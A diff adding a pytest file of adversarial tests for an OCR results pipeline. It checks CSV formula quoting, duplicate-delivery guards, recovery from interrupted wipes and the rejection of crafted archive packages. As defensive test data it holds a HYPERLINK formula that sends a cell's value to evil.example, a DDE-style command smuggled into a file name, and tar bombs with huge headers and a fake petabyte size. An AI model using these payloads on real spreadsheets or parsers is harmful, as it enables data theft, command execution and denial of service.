@@ -1,0 +1,242 @@
+"""The adversarial catalogue (issue 19): every attack that once got through, and the ones that
+held, with real components: real age (pyrage and the age CLI), real files, the real command
+lines in subprocesses, a real moto server, SQLite. Crafted packages are measured: peak memory
+(maximum RSS of the agent and its age child) and wall time."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tarfile
+
+import pytest
+import sqlalchemy as sa
+from support.agent_site import AGE, make_scans
+from support.crafted import (
+    encrypt,
+    end,
+    header,
+    member,
+    pax_member,
+    peak_rss_mb_of,
+    results_manifest,
+    results_tar,
+    sparse_file,
+)
+from yomitori.results import DocumentResult, FieldResult, FieldStatus
+from yomitori_agent.errors import ExitCode
+
+BATCH = "city-test-20260301-090000-c0ffee"
+FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"click")'
+PEAK_MB, SECONDS = 200, 10
+
+
+def _doc(doc_id: str, **values) -> DocumentResult:
+    base = {"postal_code": "1000001", "address": "東京都千代田区千代田1-1", "name": "山田\u3000太郎",
+            "phone": "03-1234-5678", **values}
+    return DocumentResult(batch_id=BATCH, document_id=doc_id, source=f"{doc_id}.png", form_id="water_start",
+                          fields={k: FieldResult(value=v, raw=v, confidence=0.99, status=FieldStatus.CORRECTED)
+                                  for k, v in base.items()})
+
+
+def _inbox_batch(inbox, docs: list[DocumentResult]):
+    b = inbox / BATCH
+    b.mkdir(parents=True)
+    (b / "manifest.json").write_text("{}")
+    payload = {"batch_id": BATCH, "documents": [d.model_dump(mode="json") for d in docs]}
+    (b / "results.json").write_text(json.dumps(payload, ensure_ascii=False), encoding="utf-8")
+    return b
+
+
+def _agent(site, *args, config=None):
+    cmd = [sys.executable, "-m", "yomitori_agent.cli", "--config", str(config or site.config), "--no-progress",
+           *args]
+    return peak_rss_mb_of(cmd, site.env(), timeout=120)
+
+
+# -- 1. CSV formula injection ----------------------------------------------------------------
+def test_results_csv_quotes_every_formula_cell_reversibly(tmp_path):
+    from yomitori.csvcell import restore_cell
+    from yomitori.export import write_results_csv
+    from yomitori.forms import load_form
+
+    # Given documents whose values (and file name) start with formula characters
+    payloads = [FORMULA, "+81 3", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "'=x"]
+    docs = [_doc(f"d{i}", name=v) for i, v in enumerate(payloads)]
+    docs[0].source = "=cmd|'/C calc'!A0.png"
+    # When results.csv is written (process, finalize and the review page all use this writer)
+    write_results_csv(docs, load_form("water_start"), tmp_path / "results.csv")
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "results.csv").read_bytes().decode("utf-8-sig"), newline="")))
+    # Then no cell starts with a formula character, and removing one quote gives the raw value
+    for row, raw in zip(rows, payloads, strict=True):
+        assert row["name"] == "'" + raw and restore_cell(row["name"]) == raw
+        assert row["phone"] == "03-1234-5678"  # digits with a dash inside are untouched
+    assert rows[0]["source"].startswith("'=")
+    assert docs[0].fields["name"].value == FORMULA  # the JSON keeps the raw value
+
+
+def test_register_quotes_formula_cells_for_the_robot_and_keeps_them_raw_in_the_database(site, contract_config):
+    # Given an imported batch where a reviewer's correction is a formula
+    _inbox_batch(site.inbox, [_doc("water_start-0001", name=FORMULA), _doc("water_start-0002", name="＠x")])
+    db = site.root / "core.db"
+    # When it is registered to the robot's CSV and the core database
+    r = _agent(site, "register", str(site.inbox), "--db", f"sqlite:///{db}", config=contract_config)
+    assert r.returncode == 0, r.stderr
+    # Then the CSV cells carry a leading quote, the database the raw values
+    text = (site.watch / f"water_start_{BATCH}.csv").read_bytes().decode("cp932")
+    names = [row[3] for row in csv.reader(io.StringIO(text, newline=""))][1:]
+    assert names == ["'" + FORMULA, "'＠x"]
+    with sa.create_engine(f"sqlite:///{db}").connect() as c:
+        assert [x[0] for x in c.execute(sa.text("select name from yomitori_water_start order by 1"))] == \
+            [FORMULA, "＠x"]
+
+
+# -- 6. registration checks its targets, not only the ledger ----------------------------------------
+def test_a_lost_ledger_does_not_deliver_a_csv_twice(site, contract_config):
+    # Given a batch registered once to the robot's folder and to the database
+    _inbox_batch(site.inbox, [_doc("water_start-0001")])
+    db = f"sqlite:///{site.root / 'core.db'}"
+    assert _agent(site, "register", str(site.inbox), "--db", db, config=contract_config).returncode == 0
+    target = site.watch / f"water_start_{BATCH}.csv"
+    before = target.stat().st_mtime_ns
+    # When the ledger is lost and registration runs again, with the CSV still waiting for the robot
+    (site.state / "registered.jsonl").unlink()
+    r = _agent(site, "register", str(site.inbox), config=contract_config)
+    # Then the CSV is not written again and the report says duplicate
+    assert r.returncode == 0, r.stderr
+    assert json.loads(r.stdout)["duplicates"] == 1 and json.loads(r.stdout)["csv_files"] == []
+    assert target.stat().st_mtime_ns == before
+    # And when the robot has taken the file too, the database says it was delivered
+    target.unlink()
+    r = _agent(site, "register", str(site.inbox), "--db", db, config=contract_config)
+    assert json.loads(r.stdout)["duplicates"] == 1 and not target.exists()
+
+
+# -- 2. a wipe cut short after the work was done ---------------------------------------------------
+def _cut_short(package, original: bytes, journal, keep_until: str) -> None:
+    """The state a kill -9 during the package wipe leaves: the package's first blocks zeros,
+    the journal without the records after ``keep_until`` (and its wipe-started record)."""
+    package.write_bytes(bytes(64 << 10) + original[64 << 10:])
+    lines = journal.read_text().splitlines(keepends=True)
+    last = max(i for i, line in enumerate(lines) if json.loads(line)["event"] == keep_until)
+    journal.write_text("".join(lines[: last + 1]) + "".join(
+        line for line in lines[last + 1:] if json.loads(line)["event"] in ("package_wipe_started", "imported")))
+
+
+def test_upload_after_a_cut_short_wipe_says_already_uploaded_and_finishes_it(site):
+    # Given a batch uploaded whole whose package wipe was cut short
+    make_scans(site.scans, 3)
+    assert site.run("pack", str(site.scans), "--to", str(site.usb)).returncode == 0
+    pkg = next(site.usb.glob("*.age"))
+    original = pkg.read_bytes()
+    r = site.run("upload", str(site.usb))
+    assert r.returncode == 0, r.stderr
+    batch = json.loads(r.stdout)["batches"][0]["batch_id"]
+    _cut_short(pkg, original, site.state / "batches" / f"{batch}.jsonl", "manifest_uploaded")
+    keys = sorted(o["Key"] for o in site.s3().list_objects_v2(Bucket=site.intake)["Contents"])
+    # When upload runs again
+    r = _agent(site, "upload", str(site.usb))
+    # Then it says the batch is already uploaded, finishes the wipe and exits 0; nothing is sent again
+    assert r.returncode == 0, r.stderr
+    assert "already uploaded" in r.stderr and "make a new package" not in r.stderr.lower()
+    assert json.loads(r.stdout)["batches"][0]["package_wiped"] is True and not pkg.exists()
+    assert sorted(o["Key"] for o in site.s3().list_objects_v2(Bucket=site.intake)["Contents"]) == keys
+
+
+def _results_package(site, recipient, name=f"{BATCH}-results.age", files=None):
+    files = files or {"results.json": b'{"documents": []}', "documents/water_start-0001.json": b'{"a": 1}'}
+    return encrypt(results_tar(BATCH, files), recipient, site.usb / name)
+
+
+def test_import_after_a_cut_short_wipe_says_already_imported_and_finishes_it(site, age_keys, contract_config):
+    # Given a batch imported into the inbox whose package wipe was cut short
+    pkg = _results_package(site, age_keys["contract"][1])
+    original = pkg.read_bytes()
+    assert site.run("import", str(site.usb), "--to", str(site.inbox), config=contract_config).returncode == 0
+    journal = site.state / "batches" / f"{BATCH}.jsonl"
+    assert journal.is_file(), "import keeps no journal of its packages"
+    _cut_short(pkg, original, journal, "imported")
+    # When import runs again
+    r = _agent(site, "import", str(site.usb), "--to", str(site.inbox), config=contract_config)
+    # Then it says the batch is already imported, finishes the wipe, exits 0, and the inbox is untouched
+    assert r.returncode == 0, r.stderr
+    assert "already imported" in r.stderr and not pkg.exists()
+    assert (site.inbox / BATCH / "documents" / "water_start-0001.json").read_bytes() == b'{"a": 1}'
+
+
+# -- 3. a crashed import's decrypted parts ----------------------------------------------------------
+def test_import_overwrites_and_deletes_the_parts_a_crashed_import_left(site, age_keys, contract_config):
+    # Given a staging folder with a decrypted part, as a crashed import leaves it (a hard link
+    # elsewhere lets the test see whether the data was overwritten before the name went)
+    stale = site.inbox / ".incoming-0123456789ab.partial" / "documents"
+    stale.mkdir(parents=True)
+    part = stale / "water_start-0001.json.part"
+    part.write_bytes(b'{"name": "secret"}')
+    witness = site.root / "witness"
+    os.link(part, witness)
+    _results_package(site, age_keys["contract"][1])
+    # When the next import runs
+    r = _agent(site, "import", str(site.usb), "--to", str(site.inbox), config=contract_config)
+    # Then the stale folder is gone and its data was overwritten first
+    assert r.returncode == 0, r.stderr
+    assert not any(site.inbox.glob(".incoming-*"))
+    assert witness.read_bytes() == bytes(len(b'{"name": "secret"}'))
+
+
+# -- 4. crafted packages: bounded before parsing ------------------------------------------------------
+def _huge_manifest() -> bytes:  # ~60 MB of valid JSON
+    return member("manifest.json", results_manifest(BATCH, {}, pad="x" * (60 << 20))) + end()
+
+
+def _many_entries() -> bytes:  # under the size bound, far over the member bound
+    files = {f"documents/d{i:06d}.json": b"" for i in range(60_000)}
+    return member("manifest.json", results_manifest(BATCH, files).replace(b" ", b"")) + end()
+
+
+def _many_members() -> bytes:  # 100 000 empty files and no manifest
+    return b"".join(header(f"documents/d{i:06d}.json", 0) for i in range(100_000)) + end()
+
+
+CRAFTED = {
+    "manifest_60MB": _huge_manifest,
+    "manifest_60k_entries": _many_entries,
+    "pax_header_64MB": lambda: pax_member("results.json", b"{}", {"comment": "x" * (64 << 20)}) + end(),
+    "gnu_long_name_64MB": lambda: member("././@LongLink", b"a" * (64 << 20), tarfile.GNUTYPE_LONGNAME)
+    + member("results.json", b"{}") + end(),
+    "members_100k_no_manifest": _many_members,
+    "pax_size_1PB": lambda: pax_member("results.json", b"{}" + bytes(510), {"size": str(10**15)}) + end(),
+}
+MEASURED: dict[str, tuple[float, float]] = {}
+
+
+@pytest.fixture(scope="module")
+def crafted_plain():
+    return {}
+
+
+@pytest.mark.parametrize("command", ["import", "upload --dry-run"])
+@pytest.mark.parametrize("kind", sorted(CRAFTED))
+def test_a_crafted_package_is_refused_fast_in_bounded_memory(site, age_keys, contract_config, crafted_plain,
+                                                            kind, command):
+    # Given a crafted package for this machine
+    plain = crafted_plain.setdefault(kind, CRAFTED[kind]())
+    importing = command == "import"
+    pkg = encrypt(plain, age_keys["contract" if importing else "external"][1], site.usb / f"{BATCH}.age")
+    # When the agent opens it
+    args = ["import", str(site.usb), "--to", str(site.inbox)] if importing else ["upload", "--dry-run",
+                                                                                  str(site.usb)]
+    r = _agent(site, *args, config=contract_config if importing else None)
+    MEASURED[f"{kind} {command}"] = (r.peak_mb, r.seconds)
+    print(f"{kind} {command}: peak {r.peak_mb:.0f} MB, {r.seconds:.1f} s")
+    # Then it is rejected with a clear message, nothing is written, the package is kept,
+    # and it cost less than 200 MB and 10 s
+    assert r.returncode == ExitCode.PACKAGE_REJECTED, r.stderr
+    assert "Traceback" not in r.stderr and "what to do" in r.stderr
+    assert pkg.exists() and not (site.inbox.exists() and any(site.inbox.iterdir()))
+    assert r.peak_mb < PEAK_MB, f"peak {r.peak_mb:.0f} MB"
+    assert r.seconds < SECONDS, f"{r.seconds:.1f} s"
